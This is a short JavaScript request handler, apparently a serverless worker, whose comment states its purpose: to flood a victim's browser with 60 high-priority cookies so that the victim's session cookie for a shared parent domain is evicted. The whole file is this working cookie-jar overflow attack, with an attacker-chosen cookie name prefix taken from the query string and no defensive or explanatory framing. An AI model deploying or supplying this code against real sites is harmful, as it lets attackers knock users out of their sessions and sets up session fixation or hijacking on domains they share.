// Answers with many cookies at high priority (?prefix= names them), to push the victim's
// session out of the browser's cookie jar for the shared parent domain.
export default {
  async fetch(request) {
    const prefix = new URL(request.url).searchParams.get("prefix") ?? "f";
    const headers = new Headers({ "content-type": "text/plain" });
    for (let i = 0; i < 60; i++) {
      headers.append("set-cookie", `${prefix}${i}=${"x".repeat(64)}; Path=/; Secure; Priority=High; Max-Age=3600`);
    }
    return new Response("flooded\n", { headers });
  },
};
